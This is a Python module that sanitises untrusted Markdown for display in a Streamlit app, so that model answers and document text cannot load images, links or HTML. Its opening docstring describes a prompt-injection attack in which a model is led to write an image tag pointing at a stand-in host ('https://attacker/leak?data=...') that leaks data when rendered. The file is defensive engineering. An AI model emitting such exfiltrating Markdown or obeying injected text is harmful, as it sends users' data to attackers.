"""Untrusted text (model answers, document text, names from files) as Markdown that cannot load anything.

A document can carry a prompt injection, and a model can be talked into writing
`![x](https://attacker/leak?data=...)`: Markdown renders that as an image, and the browser fetches it.
So untrusted text is never handed to st.markdown (or a label, a caption, an alert) as it is:

- `safe_markdown` parses it (markdown-it, CommonMark + GFM tables) and writes the Markdown back out
  itself: bold, lists, headings, code and tables stay; every Markdown character of the text is
  escaped, so only what we write can be Markdown. Images become text naming their alt text and full address,
  links show where they go ("label (`https://host/path`)") and are not clickable, raw HTML shows
  as text. Writing the output ourselves, rather than patching the input, leaves nothing for a
  difference between this parser and the browser's to slip through.
- `literal` shows a short text (a file name, a heading, an exam name) exactly as written, inside
  Markdown we build or a widget label; `code` puts one in a code span.
- `stream_markdown` shows a streamed answer, made safe again at each update.

No streamlit import: the functions are pure and a slot is anything with a `.markdown` method.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterable

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])

# Characters that make Markdown wherever they stand (CommonMark, GFM, $math$, &entities;): always
# escaped, so each shows as itself. With [ and ] escaped nothing can become a link or an image (nor a
# Streamlit :color[directive]), so ( ) : stay bare, and our own Markdown around names stays readable.
_ALWAYS = set("\\`*_[]<>!|~$&#")
# Characters that make Markdown only at the start of a line: a list item (- + 1. 1)) or a heading's
# underline (= -).
_LINE_START = re.compile(r"^(\s*)(?:([-+=])|(\d{1,9})([.)]))")
# GFM turns a bare http://... or www.... into a link whose address runs to the next space or <, and
# reads no escapes inside it: it would swallow the backslash of an escaped < and let raw HTML through.
# Breaking the "://" and "www." that start one keeps the text plain.
_BARE_LINK = re.compile(r"(?i)(:)(?=//)|(?<![\w.])(www)(\.)")
_INFO_STRING = re.compile(r"[\w+#.-]{1,40}")
_ALIGN = {"text-align:left": ":--", "text-align:right": "--:", "text-align:center": ":-:"}


def literal(text: str) -> str:
    """`text` shown exactly as written, on one line, wherever Markdown is read (st.markdown, captions,
    alerts, widget labels): every Markdown character escaped, line breaks made spaces."""
    return _escape(" ".join(str(text).splitlines()))


def code(text: str) -> str:
    """`text` as an inline code span, whatever backticks it holds (one line)."""
    text = " ".join(str(text).splitlines())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith(("`", " ")) or text.endswith(("`", " ")) else ""
    return f"{fence}{pad}{text}{pad}{fence}" if text else "` `"


def safe_markdown(text: str) -> str:
    """Untrusted Markdown as Markdown that keeps its formatting but loads no image and runs no HTML."""
    root = SyntaxTreeNode(_PARSER.parse(str(text)))
    return "\n\n".join("\n".join(lines) for lines in (_block(child) for child in root.children) if lines)


def stream_markdown(slot, pieces: Iterable[str], finish: Callable[[str], str] | None = None) -> str:
    """Show text arriving in pieces in `slot` (an st.empty()), made safe at every update; at the end,
    `finish(text)` replaces it (e.g. the safe text with links added). Returns the whole text.

    Each update parses the whole text so far (a few ms per KB), so a long answer is redrawn less often:
    after an update that took t, the next waits 4t, which keeps this under a fifth of the stream's time."""
    text, shown, next_update = "", None, 0.0
    for piece in pieces:
        text += piece
        started = time.perf_counter()
        if started >= next_update:
            slot.markdown(safe_markdown(text))
            shown = text
            next_update = started + 5 * (time.perf_counter() - started)
    if finish is not None:
        slot.markdown(finish(text))
    elif shown != text:
        slot.markdown(safe_markdown(text))
    return text


def _escape(text: str) -> str:
    """Each line as itself; its start counts as a line's start (safe where it is not one)."""
    return "\n".join(_LINE_START.sub(_escape_marker, _BARE_LINK.sub(_escape_bare_link, "".join(
        "\\" + c if c in _ALWAYS else c for c in line))) for line in text.split("\n"))


def _escape_bare_link(match: re.Match) -> str:
    return "\\:" if match.group(1) else f"{match.group(2)}\\."


def _escape_marker(match: re.Match) -> str:
    spaces, sign, digits, delimiter = match.groups()
    return f"{spaces}\\{sign}" if sign else f"{spaces}{digits}\\{delimiter}"


# --- blocks: each renders to lines; containers prefix their children's lines ----------------------------------


def _block(node: SyntaxTreeNode) -> list[str]:
    kind = node.type
    if kind == "paragraph":
        return _inline_of(node).split("\n")
    if kind == "heading":
        return ["#" * int(node.tag[1]) + " " + _inline_of(node).replace("\n", " ")]
    if kind == "blockquote":
        return [f"> {line}" if line else ">" for line in _blocks(node.children, loose=True)]
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind in ("fence", "code_block"):
        return _fence(node.content, node.info.strip() if kind == "fence" else "")
    if kind == "hr":
        return ["***"]  # never "---": under a paragraph line that would make it a heading
    if kind == "html_block":  # shown as the text it is, line by line
        return _hard_lines(_escape(line) for line in node.content.splitlines() if line.strip())
    if kind == "table":
        return _table(node)
    return _hard_lines(_escape(line) for line in node.content.splitlines() if line.strip())  # unknown: as text


def _blocks(nodes: list[SyntaxTreeNode], *, loose: bool) -> list[str]:
    lines: list[str] = []
    for node in nodes:
        block = _block(node)
        if lines and block and loose:
            lines.append("")
        lines.extend(block)
    return lines


def _list(node: SyntaxTreeNode) -> list[str]:
    ordered = node.type == "ordered_list"
    start = int(node.attrs.get("start", 1)) if ordered else 1
    # A tight list hides its items' paragraphs; a loose one keeps blank lines between blocks and items.
    loose = any(not child.hidden for item in node.children for child in item.children if child.type == "paragraph")
    lines: list[str] = []
    for number, item in enumerate(node.children, start=start):
        marker = f"{number}{node.markup or '.'}" if ordered else (node.markup or "-")
        body = _blocks(item.children, loose=loose) or [""]
        if lines and loose:
            lines.append("")
        indent = " " * (len(marker) + 1)
        lines.append(f"{marker} {body[0]}".rstrip())
        lines.extend(f"{indent}{line}" if line else "" for line in body[1:])
    return lines


def _fence(content: str, info: str) -> list[str]:
    longest = max((len(run) for run in re.findall(r"`+", content)), default=0)
    fence = "`" * max(3, longest + 1)
    info = info.split()[0] if info else ""
    return [fence + (info if _INFO_STRING.fullmatch(info) else ""), *content.rstrip("\n").split("\n"), fence]


def _table(node: SyntaxTreeNode) -> list[str]:
    rows = [row for section in node.children for row in section.children]
    if not rows:
        return []

    def cells(row: SyntaxTreeNode) -> str:
        return "| " + " | ".join(_inline_of(cell, in_table=True).replace("\n", " ") for cell in row.children) + " |"

    header = rows[0]
    align = "| " + " | ".join(_ALIGN.get(str(cell.attrs.get("style", "")), "---") for cell in header.children) + " |"
    return [cells(header), align, *(cells(row) for row in rows[1:])]


def _hard_lines(lines: Iterable[str]) -> list[str]:
    lines = list(lines)
    return [line + "\\" for line in lines[:-1]] + lines[-1:]  # a backslash at the end: a line break


# --- inline ------------------------------------------------------------------------------------------------------


def _inline_of(node: SyntaxTreeNode, *, in_table: bool = False) -> str:
    """The inline content under a paragraph, heading or table cell."""
    return "".join(_inline(child, in_table) for inline in node.children for child in inline.children)


def _inline(node: SyntaxTreeNode, in_table: bool) -> str:
    kind = node.type
    inner = "".join(_inline(child, in_table) for child in node.children)
    if kind == "text":
        return _escape(node.content)
    if kind == "softbreak":
        return "\n"
    if kind == "hardbreak":
        return "\\\n"
    if kind == "code_inline":
        span = code(node.content)
        return span.replace("|", "\\|") if in_table else span  # a bare | would split the table cell
    if kind in ("em", "strong", "s"):
        return f"{node.markup}{inner}{node.markup}" if inner else ""
    if kind == "link":
        href = node.attrs.get("href", "")
        if node.markup == "autolink" or not inner:
            return _url(href, in_table)
        return f"{inner} ({_url(href, in_table)})"
    if kind == "image":
        alt = "".join(_plain_text(child) for child in node.children).strip()
        label = _escape(f"[image: {alt}]" if alt else "[image]")
        return f"{label} ({_url(node.attrs.get('src', ''), in_table)})"
    if kind == "html_inline":
        return _escape(node.content)
    return inner or _escape(node.content)


def _url(url: str, in_table: bool) -> str:
    span = code(str(url))
    return span.replace("|", "\\|") if in_table else span


def _plain_text(node: SyntaxTreeNode) -> str:
    """The words of an image's alt text (its formatting dropped), as the browser would show them."""
    if node.type in ("text", "code_inline", "html_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return " "
    return "".join(_plain_text(child) for child in node.children)
